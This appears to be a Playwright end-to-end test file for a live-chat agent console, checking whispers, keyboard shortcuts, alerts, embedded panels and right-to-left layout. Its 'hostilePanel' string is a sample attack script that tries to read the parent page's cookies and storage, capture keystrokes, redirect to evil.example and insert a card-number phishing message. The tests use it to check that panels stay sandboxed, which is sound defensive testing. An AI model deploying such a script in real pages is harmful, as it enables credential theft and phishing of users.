// The console for somebody who works in it all day, in real browsers: a colleague whispers and
// joins, the inbox without a mouse, several open conversations, alerts, panels, and right to left.
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import { after, before, describe, it } from 'node:test';
import type { Browser, Locator, Page } from 'playwright-core';
import { lookAt } from './looks.test-support.ts';
import {
  eventually,
  goTo,
  inviteUser,
  newPerson,
  openConsole,
  startWithBrowser,
} from './product.test-support.ts';
import type { Product } from './product.test-support.ts';

declare global {
  interface Window {
    tones?: number;
    /** What the audio became, in order. */
    audio?: AudioContextState[];
    shown?: Notification[];
  }
}

let product: Product;
let browser: Browser;
let mara: Page;
let tomas: Page;

async function asks(text: string): Promise<Page> {
  const page = await newPerson(browser);
  await page.goto(`${product.shopUrl}/product/orla`);
  await page.getByRole('button', { name: 'Ask us' }).click();
  await page.getByLabel('Your question').fill(text);
  await page.getByRole('button', { name: 'Start chat' }).click();
  return page;
}

before(async () => {
  [product, browser] = await startWithBrowser({ whole: true });
  const person = await inviteUser(product, {
    email: 'tomas@aldermoor.example',
    name: 'Tomas Weber',
    role: 'agent',
  });
  // His places are enough for every conversation of these tests.
  const { items } = await product.call<{ items: { id: string; email: string }[] }>('GET', '/users');
  const his = items.find(({ email }) => email === person.email)?.id;
  await product.call('PUT', `/users/${his}/room`, { room: 10 });
  tomas = await openConsole(browser, product, '/inbox', person);
  mara = await openConsole(browser, product, '/inbox');
});
after(async () => {
  await browser?.close();
  await product?.close();
});

describe('a conversation of a colleague', () => {
  let visitor: Page;

  it('[C32] takes a whisper from a watching colleague, of which the visitor sees nothing', async () => {
    for (const page of [tomas, mara])
      await page.locator('.me-button', { hasText: 'Online' }).waitFor();
    await palette(mara, 'be away');
    await mara.locator('.me-button', { hasText: 'Away' }).waitFor();
    visitor = await asks('Do you have two of them?');
    await tomas.getByText('Do you have two of them?').first().click();
    await mara.getByText('Do you have two of them?').first().click();
    await mara.getByRole('textbox', { name: 'Whisper to agents' }).fill('Offer the second lamp');
    await mara.keyboard.press('Enter');
    await tomas.getByText('Offer the second lamp').first().waitFor();
  });

  it('[C32] can be joined: both agents write, and the visitor reads who joined and who left', async () => {
    await mara.getByRole('button', { name: 'Join' }).click();
    await visitor.getByText('Administrator joined the chat').waitFor();
    await mara.getByRole('textbox', { name: /Reply/ }).fill('I help with the delivery');
    await mara.keyboard.press('Enter');
    await visitor.getByText('I help with the delivery').waitFor();
    await tomas.getByText('I help with the delivery').first().waitFor();
    await tomas.getByRole('textbox', { name: /Reply/ }).pressSequentially('And I with the lamps');
    await mara.getByText('Tomas Weber is typing').waitFor();
    await tomas.keyboard.press('Enter');
    await mara.getByText('And I with the lamps').first().waitFor();
    assert.deepEqual(await lookAt(mara), []);
    await mara.getByRole('button', { name: 'Leave' }).click();
    await visitor.getByText('Administrator left the chat').waitFor();
    assert.equal(await visitor.getByText('second lamp').count(), 0);
    await mara.getByRole('textbox', { name: 'Whisper to agents' }).waitFor();
  });
});

/**
 * Two letters within the second that makes them one shortcut. Repeated if the machine was too slow.
 */
function goBy(letter: string, address: RegExp): Promise<string> {
  return eventually(
    async () => {
      await tomas.keyboard.press('g');
      await tomas.keyboard.press(letter);
      return tomas.url();
    },
    (at) => address.test(at),
  );
}

describe('the keyboard alone', () => {
  it('[KB3] runs a command that the palette finds by a few letters', async () => {
    await mara.keyboard.press('ControlOrMeta+k');
    const field = mara.getByRole('combobox', { name: 'Command or name of a visitor' });
    await field.fill('dark');
    await mara.getByRole('option', { name: 'Dark appearance', selected: true }).waitFor();
    assert.deepEqual(await lookAt(mara), []);
    await mara.keyboard.press('Enter');
    await mara.waitForFunction(() => document.documentElement.dataset['theme'] === 'dark');
    await palette(mara, 'light');
    await mara.waitForFunction(() => document.documentElement.dataset['theme'] === 'light');
  });

  it('[KB2] triggers shortcuts only outside text boxes, and only while they are switched on', async () => {
    await tomas.getByRole('textbox', { name: /Reply/ }).click();
    await tomas.keyboard.type('gv?');
    assert.equal(await tomas.getByRole('textbox', { name: /Reply/ }).inputValue(), 'gv?');
    assert.match(tomas.url(), /inbox/);
    await tomas.getByRole('textbox', { name: /Reply/ }).fill('');
    await tomas.keyboard.press('Escape');
    await tomas.keyboard.press('t');
    await tomas.getByRole('dialog', { name: 'Transfer' }).waitFor();
    await tomas.keyboard.press('Escape');
    await tomas.getByRole('log').focus();
    await tomas.keyboard.press('?');
    const sheet = tomas.getByRole('dialog', { name: 'Shortcuts' });
    await sheet.waitFor();
    assert.deepEqual(await lookAt(tomas), []);
    await sheet.getByRole('switch', { name: 'Single letters work' }).click();
    await tomas.keyboard.press('Escape');
    await sheet.waitFor({ state: 'detached' });
    await tomas.getByRole('log').focus();
    await tomas.keyboard.press('g');
    await tomas.keyboard.press('v');
    await tomas.keyboard.press('n');
    await palette(tomas, 'single-letter');
    await tomas.getByText('Single-letter shortcuts are on').waitFor();
    assert.match(tomas.url(), /inbox/);
    await tomas.getByRole('log').focus();
    await goBy('v', /visitors/);
    await goBy('i', /inbox/);
  });

  it('[KB1] carries a conversation from its beginning to its end', async () => {
    await asks('Is the lamp dimmable?');
    await tomas.getByText('Is the lamp dimmable?').first().waitFor();
    await tomas.keyboard.press('u');
    await tomas.getByRole('log').getByText('Is the lamp dimmable?').waitFor();
    await tomas.keyboard.press('r');
    await tomas.keyboard.type('Yes, it is');
    await tomas.keyboard.press('Enter');
    await tomas.getByRole('log').getByText('Yes, it is').waitFor();
    await tomas.keyboard.press('Escape');
    await tomas.keyboard.press('n');
    await tomas.keyboard.type('Asked about dimming');
    await tomas.keyboard.press('Enter');
    await tomas.keyboard.press('Escape');
    await tomas.keyboard.press('e');
    await tomas.getByText('Conversation ended').waitFor();
    await tomas.getByRole('log').focus();
    await tomas.keyboard.press('e');
    await tomas.getByText('Conversation put away').waitFor();
  });
});

describe('several conversations open', () => {
  it('[KB4] are tabs with unread counts above the current one, survive a reload, and close one by one', async () => {
    const first = await asks('Do you ship to Norway?');
    const second = await asks('Is there a matching table?');
    for (const words of ['Do you ship to Norway?', 'Is there a matching table?']) {
      await tomas.getByRole('link').getByText(words).click();
      await tomas.getByRole('log').getByText(words).waitFor();
    }
    const strip = tomas.getByRole('navigation', { name: 'Open conversations' });
    const before = await strip.getByRole('listitem').count();
    assert.ok(before >= 2);
    await first.getByRole('textbox').fill('To Bergen, I mean');
    await first.keyboard.press('Enter');
    await strip.getByText('1 unread message').waitFor();
    assert.deepEqual(await lookAt(tomas), []);
    await tomas.getByRole('log').focus();
    await tomas.keyboard.press(',');
    await tomas.getByRole('log').getByText('To Bergen, I mean').waitFor();
    await tomas.reload();
    await strip.waitFor();
    await tomas.getByRole('log').getByText('To Bergen, I mean').waitFor();
    // Conversations that were put away are not opened again.
    const kept = await strip.getByRole('listitem').count();
    assert.ok(kept >= 2 && kept <= before);
    await tomas.getByRole('log').focus();
    await tomas.keyboard.press('x');
    await eventually(
      () => strip.getByRole('listitem').count(),
      (count) => count === kept - 1 || (kept === 2 && count === 0),
    );
    await second.close();
  });
});

describe('alerts', () => {
  let second: Page;

  /** The tones that a tab played and the notifications that it showed. */
  const told = (page: Page) =>
    page.evaluate(() => ({ tones: window.tones ?? 0, shown: (window.shown ?? []).length }));

  before(async () => {
    const context = tomas.context();
    await context.grantPermissions(['notifications']);
    await context.addInitScript(watchAlerts);
    second = await context.newPage();
    await second.goto(`${product.url}/inbox`);
    await tomas.goto(`${product.url}/inbox`);
    for (const page of [second, tomas])
      await page.locator('.me-button', { hasText: 'Online' }).waitFor();
  });

  it('[KB5] are set per browser, and only a click asks for its permission', async () => {
    await tomas.locator('.me-button').click();
    await tomas.getByRole('button', { name: 'Sounds and notifications' }).click();
    const dialog = tomas.getByRole('dialog', { name: 'Sounds and notifications' });
    await dialog.waitFor();
    assert.deepEqual(await told(tomas), { tones: 0, shown: 0 });
    await dialog.getByRole('switch', { name: 'Desktop notifications' }).click();
    await dialog
      .getByRole('checkbox', { name: 'Notification: One of your visitors wrote' })
      .waitFor();
    // A tab behind another one is drawn only about once a second.
    await tomas.bringToFront();
    assert.deepEqual(await lookAt(tomas), []);
    await tomas.keyboard.press('Escape');
    await dialog.waitFor({ state: 'detached' });
  });

  it('[KB5] come from only one of two tabs, count in the title and on the icon, and open the conversation', async () => {
    await asks('Do you repair lamps, too?');
    for (const page of [tomas, second])
      await page.getByText('Do you repair lamps, too?').first().waitFor();
    const [one, other] = await eventually(
      () => Promise.all([told(tomas), told(second)]),
      ([first, next]) => first.shown + next.shown > 0,
    );
    assert.equal(one.tones + other.tones, 2);
    assert.equal(one.shown + other.shown, 1);
    await tomas.waitForFunction(() => /^\(\d+\) Inbox/.test(document.title));
    const icon = await tomas.locator('link[rel=icon]').getAttribute('href');
    assert.match(icon ?? '', /^data:image\/svg/);
    const speaker = one.shown === 1 ? tomas : second;
    await speaker.evaluate(() => window.shown?.[0]?.onclick?.(new Event('click')));
    await speaker.getByRole('log').getByText('Do you repair lamps, too?').waitFor();
    await second.close();
  });

  it('[KB5] in quiet hours a ring is visible only in the console, outside them also heard and notified', async () => {
    await setAlerts(async (dialog) => {
      // A ringing conversation also waits, so the alert for waiting is switched off.
      await dialog.getByRole('checkbox', { name: 'Sound: A conversation is waiting' }).uncheck();
      await dialog
        .getByRole('checkbox', { name: 'Notification: A conversation is waiting' })
        .uncheck();
      await dialog.getByRole('switch', { name: 'Quiet hours' }).click();
      // The whole day, so that the time of the test does not matter.
      for (const label of ['From', 'Until'])
        await dialog.getByLabel(label, { exact: true }).fill('00:00');
    });
    const { mode } = await product.call<{ mode: string }>('GET', '/routing');
    await product.call('PUT', '/routing', { mode: 'ring', ringS: 60 });
    const before = await told(tomas);
    await ringsAndIsAccepted('Is it made of brass?');
    await setAlerts((dialog) => dialog.getByRole('switch', { name: 'Quiet hours' }).click());
    // Alerts come in order: had the first ring caused one, it would be among these.
    await ringsAndIsAccepted('Is it made of glass?');
    await eventually(
      () => told(tomas),
      ({ tones, shown }) => tones > before.tones && shown > before.shown,
    );
    assert.deepEqual(await told(tomas), { tones: before.tones + 2, shown: before.shown + 1 });
    await product.call('PUT', '/routing', { mode });
  });

  it('[KB5] leave no audio running when their sound has faded', async () => {
    await tomas.waitForFunction(() => window.audio?.at(-1) !== 'running');
    await tomas.evaluate(() => {
      window.audio = [];
    });
    for (const turns of [1, 2]) {
      await setAlerts((dialog) => dialog.getByRole('button', { name: 'Try it' }).click());
      await tomas.waitForFunction(
        (stops) => window.audio?.filter((state) => state === 'suspended').length === stops,
        turns,
      );
    }
    const states = await tomas.evaluate(() => window.audio);
    assert.deepEqual(states, ['running', 'suspended', 'running', 'suspended']);
  });

  it('[KB5] still show a notification if the sound cannot be played', async () => {
    await setAlerts((dialog) =>
      dialog.getByRole('checkbox', { name: 'Sound: A conversation is waiting' }).check(),
    );
    const errors: string[] = [];
    tomas.on('pageerror', (error) => errors.push(error.message));
    await tomas.evaluate(() => {
      AudioContext.prototype.createOscillator = () => {
        throw new Error('no sound here');
      };
    });
    const visitor = await asks('Is there one for two?');
    await tomas.getByText('Is there one for two?').first().waitFor();
    assert.ok(errors.includes('no sound here'));
    await visitor.context().close();
    await tomas.reload();
  });

  async function setAlerts(set: (dialog: Locator) => Promise<void>): Promise<void> {
    await tomas.locator('.me-button').click();
    await tomas.getByRole('button', { name: 'Sounds and notifications' }).click();
    const dialog = tomas.getByRole('dialog', { name: 'Sounds and notifications' });
    await set(dialog);
    await tomas.keyboard.press('Escape');
    await dialog.waitFor({ state: 'detached' });
  }

  async function ringsAndIsAccepted(text: string): Promise<void> {
    const visitor = await asks(text);
    const bell = tomas.getByRole('heading', { name: 'Ringing' });
    await bell.waitFor();
    await tomas.getByText(text).first().click();
    await tomas.getByRole('button', { name: 'Accept' }).click();
    await bell.waitFor({ state: 'detached' });
    await visitor.context().close();
  }
});

describe('panels of the account', () => {
  let hostile: Server;
  /** What the hostile panel received and could do, as it reported to its own server. */
  const caught: string[] = [];

  before(async () => {
    hostile = createServer((request, response) => {
      if (request.method === 'POST') {
        request.on('data', (data: Buffer) => caught.push(String(data)));
        response.end();
        return;
      }
      response.setHeader('content-type', 'text/html').end(hostilePanel);
    }).listen(0, 'localhost');
    await once(hostile, 'listening');
    await product.call('POST', '/panels', {
      name: 'Orders',
      url: `${product.shopUrl}/panel.html?console=${new URL(product.url).origin}`,
      shares: ['name'],
      traits: [],
    });
    await product.call('POST', '/panels', {
      name: 'Weather',
      url: `http://localhost:${portOf(hostile)}/`,
      shares: [],
      traits: [],
    });
    await tomas.goto(`${product.url}/inbox`);
    await tomas.getByText('Do you repair lamps, too?').first().click();
  });
  after(() => hostile?.close());

  it('[PN2] [PN4] get only what was ticked, and put words into the answer only when the agent accepts', async () => {
    const frame = tomas.frameLocator('iframe[title="Orders"]');
    await frame.getByText(/not verified/).waitFor();
    await frame.getByRole('button', { name: 'Offer the delivery date' }).click();
    const field = tomas.getByRole('textbox', { name: /Reply/ });
    await tomas.getByText('Orders offers for your answer:').waitFor();
    assert.equal(await field.inputValue(), '');
    assert.deepEqual(await lookAt(tomas), []);
    const orders = tomas.getByRole('region', { name: 'Orders' });
    await orders.getByRole('button', { name: 'Put into the answer' }).click();
    await frame.getByText('Added to the answer.').waitFor();
    assert.equal(await field.inputValue(), 'Your lamp arrives on Thursday.');
    await field.fill('');
  });

  it('[PN2] [PN3] get nothing, reach nothing and lead nobody away if nothing was ticked', async () => {
    const lines = await eventually(
      async () => caught,
      (all) => all.some((line) => line.startsWith('context {')),
    );
    const context = lines.find((line) => line.startsWith('context {')) ?? '';
    assert.deepEqual(Object.keys(JSON.parse(context.slice('context '.length))).toSorted(), [
      'language',
      'panel',
      'theme',
    ]);
    await tomas.getByRole('textbox', { name: /Reply/ }).click();
    await tomas.keyboard.type('what is typed stays here', { delay: 40 });
    assert.equal(
      await tomas.getByRole('textbox', { name: /Reply/ }).inputValue(),
      'what is typed stays here',
    );
    await tomas.getByRole('textbox', { name: /Reply/ }).fill('');
    const done = await eventually(
      async () => caught,
      (all) => all.includes('tried'),
    );
    assert.deepEqual(
      done.filter((line) => line.startsWith('REACHED')),
      [],
    );
    assert.match(tomas.url(), /\/inbox\/(?!nowhere)/);
    assert.equal(await tomas.getByText('Weather offers').count(), 1);
    const weather = tomas.getByRole('region', { name: 'Weather' });
    await weather.getByRole('button', { name: 'Leave it' }).click();
    assert.equal(await tomas.getByRole('textbox', { name: /Reply/ }).inputValue(), '');
  });

  it('[PN1] are managed by administrators in settings, with nothing ticked at first', async () => {
    await mara.goto(`${product.url}/settings/panels`);
    await mara.getByRole('button', { name: 'New panel' }).click();
    const form = mara.getByRole('dialog', { name: 'New panel' });
    await form.getByLabel('Name', { exact: true }).fill('Tickets');
    await form.getByLabel('Address', { exact: true }).fill(`${product.url}/own`);
    await form.getByText('A panel cannot use the console’s own address').waitFor();
    await form.getByLabel('Address', { exact: true }).fill('https://desk.example/panel');
    assert.equal(await form.getByRole('checkbox', { checked: true }).count(), 0);
    assert.deepEqual(await lookAt(mara), []);
    await form.getByRole('button', { name: 'Save' }).click();
    await form.waitFor({ state: 'detached' });
    await mara.getByRole('cell', { name: 'https://desk.example', exact: true }).waitFor();
  });
});

describe('from right to left', () => {
  const places = ['', 'visitors', 'inbox', 'team', 'campaigns', 'results', 'settings/panels'];

  it('[KB6] the pages are mirrored, none is wider than the window, and nothing overlaps', async () => {
    const found: string[] = [];
    for (const place of places) {
      await goTo(mara, `/${place}`);
      await mara.getByRole('heading').first().waitFor();
      if (place === 'inbox') {
        await mara.getByText('Do you repair lamps, too?').first().click();
        await mara.getByRole('log').waitFor();
      }
      await mara.evaluate(() => {
        document.documentElement.dir = 'rtl';
      });
      for (const width of [1280, 390]) {
        await mara.setViewportSize({ width, height: 900 });
        const faults = await mara.evaluate(lookMirrored);
        found.push(...faults.map((fault) => `${place} at ${width}: ${fault}`));
      }
      await mara.setViewportSize({ width: 1280, height: 900 });
    }
    assert.deepEqual(found, []);
  });
});

/** Runs in the page: finds what is outside the window, and controls whose texts overlap. */
function lookMirrored(): string[] {
  const faults: string[] = [];
  const root = document.documentElement;
  if (root.scrollWidth > root.clientWidth) faults.push(`${root.scrollWidth} px wide`);
  const rail = document.querySelector('.rail')?.getBoundingClientRect();
  if (rail !== undefined && rail.width > 0 && rail.left < root.clientWidth / 2)
    faults.push('the areas stand at the left');
  const shown = [...document.querySelectorAll<HTMLElement>('button, a, h1, h2, input, select')]
    .filter((each) => each.checkVisibility({ opacityProperty: true, visibilityProperty: true }))
    .map((each) => ({ each, box: each.getBoundingClientRect() }))
    .filter(({ box }) => box.width > 1 && box.height > 1);
  for (const [at, { each, box }] of shown.entries())
    for (const { each: other, box: next } of shown.slice(at + 1)) {
      const within = each.contains(other) || other.contains(each);
      const wide = Math.min(box.right, next.right) - Math.max(box.left, next.left);
      const high = Math.min(box.bottom, next.bottom) - Math.max(box.top, next.top);
      const over = !within && wide > 4 && high > 4;
      // Rows that scroll beneath a sticky header do not overlap with anything visible.
      const seen = (of: DOMRect, who: HTMLElement): boolean => {
        const top = document.elementFromPoint(of.left + of.width / 2, of.top + of.height / 2);
        return top !== null && (who.contains(top) || top.contains(who));
      };
      if (over && seen(box, each) && seen(next, other))
        faults.push(`${each.outerHTML.slice(0, 80)} over ${other.outerHTML.slice(0, 80)}`);
    }
  return faults;
}

/** Tries what a page in a frame may try, and reports the result to its own server. */
const hostilePanel = `<!doctype html><script>
const tell = (line) => fetch('/caught', { method: 'POST', body: line });
addEventListener('message', (event) => tell('context ' + JSON.stringify(event.data.context)));
const attempt = (name, act) => { try { const got = act(); if (got) tell('REACHED ' + name + ' ' + got); } catch {} };
attempt('document', () => parent.document.title);
attempt('storage', () => parent.localStorage.length);
attempt('cookie', () => parent.document.cookie);
attempt('top', () => { top.location.href = 'https://evil.example/'; });
attempt('popup', () => open('https://evil.example/'));
const say = (message) => parent.postMessage(message, '*');
say({ opportune: 1, type: 'open', conversation: 'nowhere' });
say({ opportune: 1, type: 'resize', height: 1e9 });
say({ opportune: 1, type: 'insert', text: 'Send your card number to evil.example' });
say({ type: 'conversation.end' });
say({ opportune: 1, type: 'ready' });
addEventListener('keydown', (event) => tell('REACHED key ' + event.key));
addEventListener('load', () => { focus(); document.querySelector('input').focus(); });
setTimeout(() => tell('tried'), 500);
</script><input autofocus>`;

function portOf(server: Server): number {
  const address = server.address();
  return typeof address === 'object' && address !== null ? address.port : 0;
}

/**
 * Runs in the page: counts tones and notifications, and pretends that the page is behind other
 * windows.
 */
function watchAlerts(): void {
  window.tones = 0;
  window.audio = [];
  window.shown = [];
  const create = AudioContext.prototype.createOscillator;
  AudioContext.prototype.createOscillator = function counted() {
    window.tones = (window.tones ?? 0) + 1;
    this.onstatechange ??= () => window.audio?.push(this.state);
    return create.call(this);
  };
  window.Notification = class extends Notification {
    constructor(title: string, options?: NotificationOptions) {
      super(title, options);
      window.shown?.push(this);
    }
  };
  Object.defineProperty(Document.prototype, 'visibilityState', { get: () => 'hidden' });
}

/** Runs a command from the palette. */
async function palette(page: Page, name: string): Promise<void> {
  await page.keyboard.press('ControlOrMeta+k');
  await page.getByRole('combobox', { name: 'Command or name of a visitor' }).fill(name);
  await page.getByRole('option', { selected: true }).waitFor();
  await page.keyboard.press('Enter');
}
